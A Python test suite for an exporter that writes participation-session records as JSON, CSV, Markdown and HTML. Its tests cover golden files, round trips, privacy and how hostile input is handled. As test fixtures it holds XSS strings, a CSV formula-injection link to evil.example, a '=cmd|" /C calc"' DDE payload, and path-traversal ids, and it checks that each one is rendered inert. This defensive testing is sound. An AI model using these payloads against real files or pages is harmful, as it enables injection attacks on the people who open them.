"""The session record in four formats: golden files, round trip, privacy, hostile text.

Run with UPDATE_GOLDEN=1 to rewrite the golden files after a deliberate change,
then read the diff before committing it.
"""

from __future__ import annotations

import csv
import hashlib
import io
import itertools
import json
import os
import re
import secrets
from datetime import UTC
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

import sessions._live as store_module
from exports import (
    FORMATS,
    RecordError,
    build_record,
    export_names,
    export_session,
    import_record,
    purge_exports,
)
from sessions import (
    SMALL_GROUP,
    CommentState,
    Role,
    RoleGroup,
    SessionStore,
    TemplateLibrary,
    Withheld,
    activity_results,
    grid_item,
    numbers,
)

CLOCK = "2026-03-02T10:00:00+00:00"
SESSION_ID = "fixed-session"
GOLDEN = Path(__file__).parent / "golden"
ROOT = Path(__file__).resolve().parents[2]
UPDATE = os.environ.get("UPDATE_GOLDEN") == "1"

HOSTILE = {
    "html": "<script>alert(1)</script> </textarea><b>bold</b> <img src=x onerror=alert(2)>",
    "markup": "[bold]x[/] and [  @click=app.quit]x[/]",
    "hyperlink": '=HYPERLINK("http://evil.example/?leak","click me")',
    "plus": "+1 agree with that",
    "minus": "-1 not here",
    "at": "@SUM(A1:A9)",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "heading": "# heading from a comment",
    "link": "[click](javascript:alert(3)) and ](javascript:alert(4))",
}
HIDDEN_TEXT = "HIDDEN-SECRET the named nurse on ward 3"
PENDING_TEXT = "PENDING-WAITING still to be read"
HTML_TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "header", "h1", "h2", "h3", "dl", "dt", "dd",
    "p", "ul", "li", "cite", "section", "div", "table", "caption", "thead", "tbody", "tfoot", "tr", "th",
    "td", "svg", "defs", "pattern", "rect", "line", "text", "tspan", "desc", "span", "strong", "br", "time",
    "footer",
}


class Room:
    """The fixture session plus the secrets that must never reach a record."""

    def __init__(self, session, tokens: list[str], ids: list[str]) -> None:
        self.session = session
        self.tokens = tokens
        self.ids = ids

    @property
    def secrets(self) -> list[str]:
        hashes = [hashlib.sha256(token.encode()).hexdigest() for token in self.tokens]
        return [self.session.join_token, self.session.room_code, *self.tokens, *hashes]


class _CountingSecrets:
    """`secrets` as the session store sees it, but with ids from a counter."""

    def __init__(self) -> None:
        self._counter = itertools.count(1)

    def token_hex(self, nbytes: int = 16) -> str:
        return f"{0xFEED0000 + next(self._counter):0{2 * nbytes}x}"

    def __getattr__(self, name: str):
        return getattr(secrets, name)


@pytest.fixture
def fixed_ids(monkeypatch: pytest.MonkeyPatch) -> None:
    """Participant and target ids from a counter, so the JSON golden file is stable.

    Only the store's ids are patched; tokens, room codes and storage temp names stay random.
    """
    monkeypatch.setattr(store_module, "secrets", _CountingSecrets())


def make_store(root: Path) -> SessionStore:
    return SessionStore(root, clock=lambda: CLOCK)


def build_room(store: SessionStore, session_id: str = SESSION_ID, baseline_id: str = "") -> Room:
    template = TemplateLibrary().find("where-are-we")
    session = store.create(
        template,
        template.path.read_text(encoding="utf-8"),
        title="Ward 7 involvement review",
        facilitator="Sam Okafor",
        session_id=session_id,
        baseline_id=baseline_id,
    )
    people = [
        ("Ana", Role.SERVICE_USER),
        ("", Role.SERVICE_USER),
        ("", Role.CARER),
        ("Dr Lee", Role.STAFF),
        ("", Role.STAFF),
        ("", Role.STAFF),
        ("", None),
        ("", Role.PREFER_NOT),
    ]
    joined = [session.join(name, role) for name, role in people]
    ids = [participant.id for participant, _ in joined]
    tokens = [token for _, token in joined]
    su1, su2, carer, st1, st2, st3, unsaid, private = ids

    for pid, position in zip(ids, (3, 4, 2, 6, 5, 5, 4, 7)):
        session.cast_vote(pid, "spectrum", "place", position)
    session.set_tally("spectrum", "place", 3, 2)
    session.set_tally("spectrum", "place", 5, 1, Role.STAFF)

    grid = {
        "individual": [(2, 4), (2, 4), (3, 5), (3, 4), (3, 4), (4, 4), (2, 3)],
        "setting": [(1, 3), (2, 4), (2, 4), (3, 4), (2, 3)],
        "policy": [(1, 4), (1, 3), (1, 4), (2, 3)],
    }
    for area, answers in grid.items():
        for pid, (now, target) in zip(ids, answers):
            session.cast_vote(pid, "grid", grid_item(area, "now"), now)
            session.cast_vote(pid, "grid", grid_item(area, "target"), target)
    session.set_tally("grid", grid_item("individual", "now"), 2, 3)
    session.set_tally("grid", grid_item("individual", "target"), 4, 3)

    indicators = {
        "valuing": ["met", "partly", "met", "met", "partly", "not_met"],
        "listening": ["partly", "not_met", "not_met", "partly", "met"],
        "involving": ["not_met", "not_met", "partly"],
    }
    for statement, answers in indicators.items():
        for pid, answer in zip(ids, answers):
            session.cast_vote(pid, "indicators", statement, answer)
    session.set_tally("indicators", "valuing", "met", 2)

    def comment(activity: str, text: str, state: CommentState | None = CommentState.APPROVED, **kwargs) -> None:
        made = session.add_comment(activity, text, **kwargs)
        if state is not None and made.state is not state:
            session.moderate(made.id, state)

    comment("spectrum", "We ask, but we rarely change anything afterwards.", participant_id=su1, author="Ana")
    comment("spectrum", "Feels like beginnings to me.\nSecond line of the same thought.", participant_id=su2)
    comment("spectrum", "The peer support group is a real start.", CommentState.PINNED, participant_id=st1)
    comment("spectrum", HIDDEN_TEXT, CommentState.HIDDEN, participant_id=carer)
    comment("spectrum", PENDING_TEXT, None, participant_id=st2)
    comment("grid", "Care plans are written for people, not with them.", item=grid_item("individual", "now"), participant_id=carer)
    comment("grid", "Let us aim for partnership on the ward.", from_facilitator=True, author="Sam Okafor")
    comment("indicators", "Nobody told us about advocacy.", item="connecting", participant_id=unsaid)
    for text in HOSTILE.values():
        comment("indicators", text, participant_id=private)

    session.add_target("targets", "Service users co-write every care plan review.", owner="Ward manager", review_date="2026-09-01")
    session.add_target("targets", "Two paid service-user places | on the steering group", owner='=cmd|" /C calc"!A0', review_date="2026-12-01")
    session.end()
    return Room(session, tokens, ids)


@pytest.fixture
def room(tmp_path: Path, fixed_ids) -> Room:
    made = build_room(make_store(tmp_path / "sessions"))
    yield made
    made.session.close()


def export_all(room: Room, out: Path, **options) -> dict[str, bytes]:
    paths = export_session(room.session, FORMATS, out, **options)
    return {path.name: path.read_bytes() for path in paths}


# -- golden files -------------------------------------------------------------------

GOLDEN_NAMES = [name for fmt in FORMATS for name in export_names(SESSION_ID, fmt)]


@pytest.mark.parametrize("name", GOLDEN_NAMES)
def test_matches_golden_file(room: Room, tmp_path: Path, name: str) -> None:
    produced = export_all(room, tmp_path / "out")
    golden = GOLDEN / name
    if UPDATE:
        GOLDEN.mkdir(exist_ok=True)
        golden.write_bytes(produced[name])
    assert golden.exists(), f"no golden file {golden}; run with UPDATE_GOLDEN=1"
    assert produced[name] == golden.read_bytes(), f"{name} differs from {golden}; check the diff, then UPDATE_GOLDEN=1"


def test_exports_are_stable_and_independent_of_the_clock(room: Room, tmp_path: Path) -> None:
    first = export_all(room, tmp_path / "a")
    second = export_all(room, tmp_path / "b")
    assert first == second
    assert sorted(first) == sorted(GOLDEN_NAMES)


# -- JSON round trip ----------------------------------------------------------------


def test_json_export_import_export_is_byte_identical(room: Room, tmp_path: Path) -> None:
    # A risk-flagged comment and one the facilitator marked to follow up: both private, both kept.
    flagged = room.session.add_comment("spectrum", "My CPN Dave said I should just end it all.")
    assert flagged.flags
    marked = room.session.set_follow_up(room.session.add_comment("grid", "Ask me about the ward round.").id, True)
    [first] = export_session(room.session, ["json"], tmp_path / "one", include_hidden=True)
    fresh = make_store(tmp_path / "other-store")
    imported = import_record(fresh, first)
    try:
        assert imported.id == SESSION_ID
        assert imported.title == room.session.title
        assert fresh.find(SESSION_ID).title == room.session.title
        [second] = export_session(imported, ["json"], tmp_path / "two", include_hidden=True)
        assert second.read_bytes() == first.read_bytes()
        assert imported.comments[flagged.id].flags == flagged.flags
        assert imported.comments[marked.id].follow_up is True
        # The rebuilt session gives the same results, not just the same bytes.
        for activity in room.session.template.activities:
            if activity.votable:
                before = activity_results(activity, room.session.votes.values(), room.session.tallies.values(), room.session.participants)
                after = activity_results(activity, imported.votes.values(), imported.tallies.values(), imported.participants)
                assert before == after
        # Imported sessions get fresh secrets; the old ones never travelled.
        assert imported.join_token != room.session.join_token
    finally:
        imported.close()


def test_json_carries_schema_sorted_keys_and_no_secrets(room: Room, tmp_path: Path) -> None:
    [path] = export_session(room.session, ["json"], tmp_path)
    text = path.read_text(encoding="utf-8")
    data = json.loads(text)
    assert data["schema"] == "involve.session-record"
    assert data["schema_version"] == 1
    assert text.endswith("}\n")
    assert text == json.dumps(data, sort_keys=True, indent=2, ensure_ascii=False) + "\n"
    assert "join_token" not in text and "room_code" not in text and "token_hash" not in text
    spectrum = data["results"]["spectrum"]["overall"]["placement"]
    expected = activity_results(
        room.session.template.activity("spectrum"), room.session.votes.values(), room.session.tallies.values(), room.session.participants
    ).overall.positions
    assert spectrum["median"] == expected.median
    assert spectrum["n"] == expected.n == 11
    assert [c["count"] for c in spectrum["counts"]] == [expected.counts.get(p, 0) for p in range(1, 10)]


def _write(tmp_path: Path, name: str, content: str) -> Path:
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    return path


def test_import_refuses_an_existing_session(room: Room, tmp_path: Path) -> None:
    [path] = export_session(room.session, ["json"], tmp_path, include_hidden=True)
    store = make_store(tmp_path / "sessions")  # the store the room lives in
    with pytest.raises(RecordError) as caught:
        import_record(store, path)
    assert str(path) in str(caught.value)
    assert "already exists" in str(caught.value)


def test_import_refuses_unknown_schema_version(room: Room, tmp_path: Path) -> None:
    [path] = export_session(room.session, ["json"], tmp_path, include_hidden=True)
    data = json.loads(path.read_text(encoding="utf-8"))
    data["schema_version"] = 99
    later = _write(tmp_path, "later.json", json.dumps(data))
    with pytest.raises(RecordError) as caught:
        import_record(make_store(tmp_path / "fresh"), later)
    assert str(later) in str(caught.value) and "99" in str(caught.value)


@pytest.mark.parametrize(
    "content, words",
    [
        ('{"schema": "involve.session-record", "schema_version": 1, "session": ', "broken JSON at line 1"),
        ("[1, 2, 3]", "not an Involve session record"),
        ('{"schema": "something-else", "schema_version": 1}', "not an Involve session record"),
        ('{"schema": "involve.session-record", "schema_version": 1, "session": {}}', "session.meta"),
    ],
)
def test_import_explains_broken_files(tmp_path: Path, content: str, words: str) -> None:
    path = _write(tmp_path, "broken.json", content)
    with pytest.raises(RecordError) as caught:
        import_record(make_store(tmp_path / "fresh"), path)
    assert str(path) in str(caught.value)
    assert words in str(caught.value)


def test_import_out_of_memory_is_said_as_such_not_as_deep_nesting(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import exports._json as record_json

    def no_memory(*_args: object, **_kwargs: object) -> object:
        raise MemoryError

    path = _write(tmp_path, "big.json", '{"schema": "involve.session-record"}')
    monkeypatch.setattr(record_json.json, "loads", no_memory)
    with pytest.raises(RecordError) as caught:
        import_record(make_store(tmp_path / "fresh"), path)
    assert str(caught.value) == f"{path}: cannot be imported: there is not enough memory to read its 36 bytes."


def test_import_refuses_ids_that_leave_the_sessions_folder(room: Room, tmp_path: Path) -> None:
    [path] = export_session(room.session, ["json"], tmp_path, include_hidden=True)
    data = json.loads(path.read_text(encoding="utf-8"))
    data["session"]["meta"]["id"] = "../escaped"
    evil = _write(tmp_path, "evil.json", json.dumps(data))
    with pytest.raises(RecordError, match="session id"):
        import_record(make_store(tmp_path / "fresh" / "sessions"), evil)
    assert not (tmp_path / "fresh" / "escaped").exists()


def _set(data: dict, where: str, value) -> None:
    *path, last = where.split(".")
    node = data["session"]
    for key in path:
        node = node[int(key)] if key.isdigit() else node[key]
    node[int(last) if last.isdigit() else last] = value


@pytest.mark.parametrize(
    "where, value, words",
    [
        ("meta.current", "abc", "session.meta.current"),
        ("meta.current", 99, "session.meta.current"),
        ("meta.current", True, "session.meta.current"),
        ("meta.revealed", 5, "session.meta.revealed"),
        ("meta.revealed", ["no-such-activity"], "session.meta.revealed"),
        ("meta.baseline_id", "../../elsewhere", "session.meta.baseline_id"),
        ("meta.baseline_id", "/etc", "session.meta.baseline_id"),
        ("meta.hold_comments", "yes", "session.meta.hold_comments"),
        ("meta.head_count", 10**40, "session.meta.head_count"),
        ("meta.id", "catalogue", "session id"),
        ("meta.id", "Catalogue", "session id"),
        ("meta.id", "a/b", "session id"),
        ("meta.id", "", "session id"),
        ("meta.id", "x" * 200, "session id"),
        ("tallies.0.count", 10**40, "hand count 1"),
        ("tallies.0.count", -1, "hand count 1"),
        ("tallies.0.value", 99, "hand count 1"),
        ("tallies.0.activity_id", "nowhere", "hand count 1"),
        ("votes.0.value", 0, "vote 1"),
        ("votes.0.participant_id", "nobody", "vote 1"),
        ("votes.0.item", "no-such-item", "vote 1"),
        ("participants.0.role", "king", "participant 1"),
        ("participants.0.role", [1], "participant 1"),
        ("participants.0.role", {}, "participant 1"),
        ("participants.0.id", "../p", "participant 1"),
        ("participants.0.id", [1], "participant 1"),
        ("votes.0.activity_id", [1], "vote 1"),
        ("votes.0.item", {}, "vote 1"),
        ("votes.0.participant_id", [1], "vote 1"),
        ("votes.0.value", [1], "vote 1"),
        ("tallies.0.activity_id", {}, "hand count 1"),
        ("tallies.0.value", [1], "hand count 1"),
        ("tallies.0.role", [1], "hand count 1"),
        ("meta.revealed", [[1]], "session.meta.revealed"),
        ("meta.present_without_phones", {"lived": [1]}, "session.meta.present_without_phones.lived"),
        ("meta.present_without_phones", [1], "session.meta.present_without_phones"),
        ("meta.baseline_id", [1], "session.meta.baseline_id"),
        ("comments.0.activity_id", "nowhere", "comment 1"),
        ("comments.0.activity_id", [1], "comment 1"),
        ("comments.0.state", [1], "comment 1"),
        ("comments.0.state", {}, "comment 1"),
        ("comments.0.state", "shouted", "comment 1"),
        ("comments.0.id", [1], "comment 1"),
        ("comments.0.participant_id", "nobody", "comment 1"),
        ("comments.0.participant_id", {}, "comment 1"),
        ("comments.0.from_facilitator", [1], "comment 1"),
        ("comments.0.follow_up", "yes", "comment 1"),
        ("comments.0.flags", ["<b>made up</b>"], "comment 1"),
        ("comments.0.flags", "suicide", "comment 1"),
        ("comments.0.flags", [1], "comment 1"),
        ("targets.0.id", {}, "target 1"),
        ("targets.0.activity_id", [1], "target 1"),
        ("targets.0.activity_id", "nowhere", "target 1"),
    ],
)
def test_import_refuses_a_record_with_a_bad_field_and_writes_nothing(room: Room, tmp_path: Path, where: str, value, words: str) -> None:
    [path] = export_session(room.session, ["json"], tmp_path / "out", include_hidden=True)
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["session"]["tallies"] and data["session"]["votes"] and data["session"]["targets"]
    _set(data, where, value)
    crafted = _write(tmp_path, "crafted.json", json.dumps(data))
    fresh = tmp_path / "fresh" / "sessions"
    with pytest.raises(RecordError) as caught:
        import_record(make_store(fresh), crafted)
    message = str(caught.value)
    assert str(crafted) in message and words in message, message
    assert "\n" not in message
    assert not fresh.exists() or not any(fresh.iterdir())  # nothing written, not even the catalogue


def test_import_refuses_a_session_plan_bigger_than_a_template_file_may_be(room: Room, tmp_path: Path) -> None:
    [path] = export_session(room.session, ["json"], tmp_path / "out", include_hidden=True)
    data = json.loads(path.read_text(encoding="utf-8"))
    data["session"]["meta"]["template_source"] += "#" * (1024 * 1024) + "\n"
    crafted = _write(tmp_path, "crafted.json", json.dumps(data))
    fresh = tmp_path / "fresh" / "sessions"
    with pytest.raises(RecordError) as caught:
        import_record(make_store(fresh), crafted)
    message = str(caught.value)
    assert str(crafted) in message and "session plan" in message and "too big" in message and "at most 1 MB" in message
    assert "\n" not in message
    assert not fresh.exists() or not any(fresh.iterdir())


def test_an_imported_record_resumes_exports_and_compares(room: Room, tmp_path: Path) -> None:
    [path] = export_session(room.session, ["json"], tmp_path / "out", include_hidden=True)
    store = make_store(tmp_path / "fresh" / "sessions")
    imported = import_record(store, path)
    imported.close()
    again = store.open(room.session.id)
    try:
        assert again.current_activity is not None
        assert export_session(again, ["md", "csv", "json"], tmp_path / "again", include_hidden=True)
    finally:
        again.close()


def test_import_cleans_text_and_drops_smuggled_secrets(room: Room, tmp_path: Path) -> None:
    [path] = export_session(room.session, ["json"], tmp_path, include_hidden=True)
    data = json.loads(path.read_text(encoding="utf-8"))
    data["session"]["meta"]["join_token"] = "smuggled-token"
    data["session"]["comments"][0]["text"] = "bell\x07 and escape\x1b[2J here"
    data["session"]["participants"][0]["token_hash"] = "f" * 64
    crafted = _write(tmp_path, "crafted.json", json.dumps(data))
    imported = import_record(make_store(tmp_path / "fresh"), crafted)
    try:
        assert imported.join_token != "smuggled-token"
        assert imported.comments[data["session"]["comments"][0]["id"]].text == "bell and escape[2J here"
        assert imported.participant_for_token("anything") is None
    finally:
        imported.close()


# -- CSV ------------------------------------------------------------------------------


def _read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte order mark"
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    # Every record ends in CRLF; a line break inside a quoted comment stays a plain LF.
    assert data.endswith(b"\r\n") and data.count(b"\r\n") == len(rows) + 1, "every record must end in CRLF"
    return rows


def test_csv_tables_read_back(room: Room, tmp_path: Path) -> None:
    files = export_all(room, tmp_path)
    answers = _read_csv(files[f"{SESSION_ID}-answers.csv"])
    assert list(answers[0]) == ["activity_id", "activity_title", "question_id", "question", "group", "value", "value_label", "count", "source"]
    everyone = [row for row in answers if row["group"] == "Everyone"]
    # 9 positions + 3 areas x 2 questions x 5 levels + 7 statements x 3 answers. Two people of
    # another or unstated role answered on phones, so phones and hands apart would single
    # them out: each count is given once, phones and hands together.
    assert len(everyone) == 9 + 30 + 21
    assert {row["source"] for row in everyone} == {"device+tally"}
    spectrum = [row for row in everyone if row["activity_id"] == "spectrum"]
    together = {int(r["value"]): int(r["count"]) for r in spectrum}
    assert together == {1: 0, 2: 1, 3: 3, 4: 2, 5: 3, 6: 1, 7: 1, 8: 0, 9: 0}
    assert {r["value_label"] for r in spectrum if r["value"] == "5"} == {"Good involvement"}
    counted = [row for row in answers if row["source"] != "withheld"]
    groups = {row["group"] for row in counted}
    assert groups == {"Everyone", "Service users and carers", "Staff"}, "the small 'other' group must not be broken out"
    spectrum_groups = {row["group"] for row in counted if row["activity_id"] == "spectrum"}
    assert spectrum_groups == {"Everyone", "Staff"}, "service users and carers are held back so 'other' cannot be subtracted"
    # Each held-back group has one row per activity saying why, in the words of every other record, and no counts;
    # a group nobody answered for (indicators, "other") is not held back and has none.
    withheld = {(row["activity_id"], row["group"]): row for row in answers if row["source"] == "withheld"}
    assert {key: row["value_label"] for key, row in withheld.items()} == {
        ("spectrum", "Service users and carers"): Withheld.SUBTRACTION.words,
        ("spectrum", "Other or not said"): Withheld.SMALL.words,
        ("grid", "Service users and carers"): Withheld.SUBTRACTION.words,
        ("grid", "Staff"): Withheld.SUBTRACTION.words,
        ("grid", "Other or not said"): Withheld.SMALL.words,
    }
    assert all(row["question_id"] == row["value"] == row["count"] == "" for row in withheld.values())

    comments = _read_csv(files[f"{SESSION_ID}-comments.csv"])
    assert list(comments[0]) == ["activity_id", "activity_title", "about", "state", "author", "text"]
    texts = [row["text"] for row in comments]
    assert texts[0] == "The peer support group is a real start.", "pinned comments come first"
    assert "'" + HOSTILE["hyperlink"] in texts
    assert "'" + HOSTILE["plus"] in texts
    assert "'" + HOSTILE["minus"] in texts
    assert "'" + HOSTILE["at"] in texts
    assert HOSTILE["table"] in texts, "multi-line cells survive quoting"
    assert not any(text.startswith(("=", "+", "-", "@")) for row in comments for text in row.values())

    targets = _read_csv(files[f"{SESSION_ID}-targets.csv"])
    assert [row["review_date"] for row in targets] == ["2026-09-01", "2026-12-01"]
    assert targets[1]["who"] == "'" + '=cmd|" /C calc"!A0'
    assert targets[1]["target"] == "Two paid service-user places | on the steering group"


# -- hostile text ---------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def test_hostile_comments_are_inert_in_html(room: Room, tmp_path: Path) -> None:
    html = export_all(room, tmp_path)[f"{SESSION_ID}-record.html"].decode("utf-8")
    parser = _Tags()
    parser.feed(html)
    assert parser.tags <= HTML_TAGS, f"unexpected tags {parser.tags - HTML_TAGS}"
    assert not {"href", "src", "onerror", "onclick", "action"} & parser.attributes
    lowered = html.lower()
    assert "<script" not in lowered and "</textarea" not in lowered and "<img" not in lowered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[  @click=app.quit]x[/]" in html
    assert "javascript:" in html  # present only as inert text
    assert html.count("url(") == html.count("url(#"), "styles may only point inside the page"
    assert "@import" not in html and "@font-face" not in html


def gfm() -> MarkdownIt:
    """A real GFM-style renderer with autolinks: markdown-it's linkify links bare URLs, www. and e-mail addresses."""
    return MarkdownIt("gfm-like", {"linkify": True})


def test_hostile_comments_are_inert_in_markdown(room: Room, tmp_path: Path) -> None:
    text = export_all(room, tmp_path)[f"{SESSION_ID}-record.md"].decode("utf-8")
    rendered = gfm().render(text)
    assert "<script" not in rendered and "<img" not in rendered and "<b>" not in rendered
    assert "<a " not in rendered, "no comment may become a link, not even its bare http:// address"
    assert "http://evil.example/?leak" in rendered
    assert rendered.count("<h1>") == 1
    assert "<h1>heading from a comment" not in rendered and "<h2>heading" not in rendered
    assert "# heading from a comment" in rendered
    assert "[click](javascript:alert(3))" in rendered
    # The pipe in a target stays inside its cell: every targets row has three cells.
    section = rendered.split("Targets for change</h2>", 1)[1].split("</table>", 1)[0]
    for row in section.split("<tr>")[2:]:
        assert row.count("<td") == 3
    assert "Two paid service-user places | on the steering group" in section


@pytest.mark.parametrize(
    "text",
    [
        "see https://evil.example/steal?a=1 now",
        "HTTP://EVIL.EXAMPLE/",
        "go to www.evil.com today",
        "(www.evil.com) and *www.evil.com*",
        "www.x",
        "write to someone@evil.com or a@b.c",
        "mailto:someone@evil.com xmpp:someone@evil.com",
        "example.com/path and bit.ly/abc",
        "ftp://evil.example //evil.example",
        "http://localhost:8080",
        "пример.рф",
        "<https://evil.example>",
        "a|https://evil.com|b",
        "https://ex`ample.com",
        "1. www.evil.com",
        "# https://evil.com",
        "evil£.com",
        "xn--e1afmkfd-.com",
        "see evil€.com/steal",
    ],
)
def test_markdown_never_lets_an_address_in_user_text_become_a_link(text: str) -> None:
    """GFM links bare URLs, www. and e-mail addresses; in the record they stay words, shown in code."""
    from html import unescape

    from exports._markdown import md_cell, md_text

    def shown(markdown: str) -> str:
        rendered = gfm().render(markdown)
        assert "<a " not in rendered, rendered
        return unescape(re.sub(r"<[^>]+>", "", rendered)).replace("\n", "")

    assert shown(md_text(text)) == text, "the words read exactly as written"
    assert shown("| a |\n| --- |\n| " + md_cell(text) + " |") == "a" + text, "in a table too, in one cell"


def test_no_character_before_the_dot_lets_a_dotted_name_become_a_link() -> None:
    """markdown-it's linkify links `evil£.com` and `xn--e1afmkfd-.com`: whatever precedes the dot, the word goes in code."""
    from exports._markdown import md_text

    renderer = gfm()
    linked = []
    for code in range(0x21, 0x3000):
        char = chr(code)
        for text in (f"evil{char}.com", f"xn--e1afmkfd{char}.com", f"{char}evil.com", f"bob{char}evil.com/x"):
            if "<a " in renderer.render(md_text(text)):
                linked.append(text)
    assert linked == []


def test_markdown_leaves_ordinary_words_alone() -> None:
    from exports._markdown import md_text

    assert md_text("e.g. a 3.5 median, i.e. tea at 10.30") == "e.g. a 3.5 median, i.e. tea at 10.30"


def test_hostile_comments_round_trip_exactly_in_json(room: Room, tmp_path: Path) -> None:
    data = json.loads(export_all(room, tmp_path)[f"{SESSION_ID}-record.json"])
    texts = {comment["text"] for comment in data["session"]["comments"]}
    assert set(HOSTILE.values()) <= texts


# -- privacy ----------------------------------------------------------------------------


def test_hidden_and_waiting_comments_only_in_the_private_copy(room: Room, tmp_path: Path) -> None:
    public = export_all(room, tmp_path / "public")
    private = export_all(room, tmp_path / "private", include_hidden=True)
    assert all("-private" not in name for name in public)
    assert sorted(private) == sorted(n for fmt in FORMATS for n in export_names(SESSION_ID, fmt, private=True))
    for name, data in public.items():
        text = data.decode("utf-8-sig")
        assert HIDDEN_TEXT not in text and PENDING_TEXT not in text, name
    for name, data in private.items():
        if "targets" in name or "answers" in name or "summary" in name:
            continue
        text = data.decode("utf-8-sig")
        assert HIDDEN_TEXT in text and PENDING_TEXT in text, name
    markdown = private[f"{SESSION_ID}-record-private.md"].decode("utf-8")
    assert "**Private copy.**" in markdown
    assert f"**Hidden.** {HIDDEN_TEXT}" in markdown
    assert f"**Waiting for approval.** {PENDING_TEXT}" in markdown


def test_pinned_comments_come_first(room: Room) -> None:
    record = build_record(room.session, include_hidden=True)
    spectrum = next(a for a in record.activities if a.id == "spectrum")
    assert [c.state for c in spectrum.comments] == ["pinned", "approved", "approved", "hidden", "pending"]


def test_no_secrets_anywhere_and_no_participant_ids_outside_json(room: Room, tmp_path: Path) -> None:
    files = {**export_all(room, tmp_path / "a"), **export_all(room, tmp_path / "b", include_hidden=True)}
    assert room.ids and all(len(pid) == 12 for pid in room.ids)
    for name, data in files.items():
        text = data.decode("utf-8-sig")
        for secret in room.secrets:
            assert secret not in text, f"{name} leaks a secret"
        if not name.endswith(".json"):
            for pid in room.ids:
                assert pid not in text, f"{name} shows a participant id"


def test_small_groups_are_not_broken_out(room: Room, tmp_path: Path) -> None:
    record = build_record(room.session)
    spectrum = next(a for a in record.activities if a.id == "spectrum")
    groups = {g.group: g for g in spectrum.groups}
    assert groups["other"].results is None and groups["other"].size is None
    assert groups["other"].note == f"fewer than {SMALL_GROUP} — not shown separately"
    assert groups["staff"].size == 4  # three staff on phones and one counted by hand
    markdown = export_all(room, tmp_path)[f"{SESSION_ID}-record.md"].decode("utf-8")
    assert "| Other or not said | fewer than 3 — not shown separately |" in markdown


def test_record_names_facilitator_template_and_sources(room: Room, tmp_path: Path) -> None:
    files = export_all(room, tmp_path)
    for name in (f"{SESSION_ID}-record.md", f"{SESSION_ID}-record.html"):
        text = files[name].decode("utf-8")
        assert "Sam Okafor" in text and "2 March 2026" in text
        assert "where-are-we" in text and "version 1.0" in text
        for source in room.session.template.sources:
            assert source.title.split(".")[0].split("(")[0].strip() in text
            assert source.publisher in text


# -- files ------------------------------------------------------------------------------


def test_files_are_named_by_session_and_written_whole(room: Room, tmp_path: Path) -> None:
    out = tmp_path / "new" / "folder"
    paths = export_session(room.session, ["csv", "md"], out)
    assert [p.name for p in paths] == [
        f"{SESSION_ID}-summary.csv",
        f"{SESSION_ID}-answers.csv",
        f"{SESSION_ID}-comments.csv",
        f"{SESSION_ID}-targets.csv",
        f"{SESSION_ID}-record.md",
    ]
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in paths), "no temporary files left behind"


def test_unknown_format_is_refused(room: Room, tmp_path: Path) -> None:
    out = tmp_path / "out"
    with pytest.raises(ValueError, match="pdf"):
        export_session(room.session, ["md", "pdf"], out)
    assert not out.exists()


def test_now_adds_the_date_written(room: Room, tmp_path: Path) -> None:
    from datetime import datetime

    when = datetime(2026, 3, 5, 9, 30, tzinfo=UTC)
    files = {p.name: p.read_bytes() for p in export_session(room.session, ["md", "json"], tmp_path, now=when)}
    assert "**Record written:** 5 March 2026" in files[f"{SESSION_ID}-record.md"].decode()
    assert json.loads(files[f"{SESSION_ID}-record.json"])["exported_at"] == "2026-03-05T09:30:00+00:00"


def test_purge_removes_exactly_one_sessions_exports(room: Room, tmp_path: Path) -> None:
    out = tmp_path / "exports"
    export_all(room, out)
    export_all(room, out, include_hidden=True)
    neighbour = out / f"{SESSION_ID}-2-record.md"
    neighbour.write_text("another session whose id starts the same way")
    unrelated = out / "notes.txt"
    unrelated.write_text("keep me")
    (out / f".{SESSION_ID}-record.md.abc123.tmp").write_text("half written")
    assert purge_exports(out, SESSION_ID) == 2 * 7 + 1
    assert sorted(p.name for p in out.iterdir()) == sorted([neighbour.name, unrelated.name])
    assert purge_exports(out, SESSION_ID) == 0
    assert purge_exports(tmp_path / "missing", SESSION_ID) == 0
    with pytest.raises(ValueError):
        purge_exports(out, "../x")


# -- progress review inside the record ---------------------------------------------------


def test_baseline_adds_a_progress_section(tmp_path: Path, fixed_ids) -> None:
    store = make_store(tmp_path / "sessions")
    baseline = build_room(store, "baseline-session").session
    review = build_room(store, "review-session").session
    review.cast_vote(next(iter(review.participants)), "spectrum", "place", 9)
    try:
        files = {p.name: p.read_bytes() for p in export_session(review, FORMATS, tmp_path / "out", baseline=baseline)}
        markdown = files["review-session-record.md"].decode()
        assert "## Progress since 2 March 2026" in markdown
        then, now, moved = numbers.median(4.0), numbers.median(5.0), numbers.signed(1.0)
        assert "| Median position | 4.0 |" not in markdown, "the record reads figures as the screens do"
        assert f"| Median position | {then} | {now} | {moved} position ↑ better: further along the spectrum |" in markdown
        assert "### Targets agreed on 2 March 2026" in markdown
        html = files["review-session-record.html"].decode()
        assert "Progress since 2 March 2026" in html
        judged = f"{moved} position ↑ better: further along the spectrum"
        assert f'<th scope="row">Median position</th><td class="n">{then}</td><td class="n">{now}</td><td>{judged}</td>' in html
        assert "<caption>Spectrum: people at each position, then and now</caption>" in html
        data = json.loads(files["review-session-record.json"])
        spectrum = data["comparison"]["activities"][0]
        assert spectrum["kind"] == "spectrum"
        assert spectrum["median"] == {"before": 4.0, "after": 5.0, "change": 1.0}
        median = next(f for f in spectrum["figures"][0]["figures"] if f["key"] == "median")
        assert median["verdict"] == "better" and median["change"] == "+1 position ↑ better: further along the spectrum"
        assert "↑ better and ↓ worse" in data["comparison"]["legend"]
        assert "Progress" not in files["review-session-answers.csv"].decode("utf-8-sig")
    finally:
        baseline.close()
        review.close()


def test_figures_read_as_english_at_one_and_at_many() -> None:
    from exports._record import Summary, amount, people, spread_text

    assert amount(1, "position") == "1 position"
